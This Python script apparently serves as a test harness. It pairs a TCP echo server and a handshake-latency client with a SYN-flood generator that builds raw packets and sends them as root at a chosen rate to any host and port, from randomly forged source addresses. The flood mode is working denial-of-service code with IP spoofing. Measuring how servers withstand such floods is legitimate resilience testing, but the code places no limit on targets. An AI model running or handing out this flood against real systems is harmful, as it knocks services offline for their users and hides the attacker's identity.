"""`serve PORT SECONDS` echoes. `syn HOST PORT RATE SECONDS` sends SYNs from ever new addresses, as root. `call HOST
PORT COUNT` connects and prints the milliseconds of each handshake."""
import random
import signal
import socket
import struct
import sys
import threading
import time


def serve(port, seconds):
    signal.signal(signal.SIGALRM, lambda *_: sys.exit())
    signal.alarm(seconds)
    listener = socket.create_server(("", port), backlog=512)
    while True:
        sock = listener.accept()[0]
        threading.Thread(target=lambda: sock.sendall(sock.recv(1)), daemon=True).start()


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(to, port):
    source = bytes([10, 66, random.randrange(256), random.randrange(1, 255)])
    ports = struct.pack("!HH", random.randrange(1024, 65536), port)
    tcp = ports + random.randbytes(4) + bytes(4) + b"\x60\x02\xff\xff"
    options = b"\x02\x04\x05\xb4"
    check = checksum(source + to + b"\0\x06\0\x18" + tcp + options)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 44, 0, 0x4000, 64, 6, 0)
    return ip + source + to + tcp + struct.pack("!HH", check, 0) + options


def flood(host, port, rate, seconds):
    packets = [syn(socket.inet_aton(host), port) for _ in range(50_000)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin, sent = time.monotonic(), 0
    while (passed := time.monotonic() - begin) < seconds:
        for _ in range(int(rate * passed) - sent):
            sock.sendto(packets[sent % len(packets)], (host, 0))
            sent += 1
        time.sleep(0.0002)


def call(host, port, count):
    def connect():
        begin = time.monotonic()
        sock = socket.create_connection((host, port), 20)
        took = (time.monotonic() - begin) * 1000
        sock.sendall(b"x")
        assert sock.recv(1) == b"x"
        print("%.1f" % took, flush=True)

    threads = [threading.Thread(target=connect) for _ in range(count)]
    for thread in threads:
        thread.start()
        time.sleep(0.05)
    for thread in threads:
        thread.join()


role, *words = sys.argv[1:]
if role == "serve":
    serve(*map(int, words))
elif role == "syn":
    flood(words[0], *map(int, words[1:]))
else:
    call(words[0], *map(int, words[1:]))
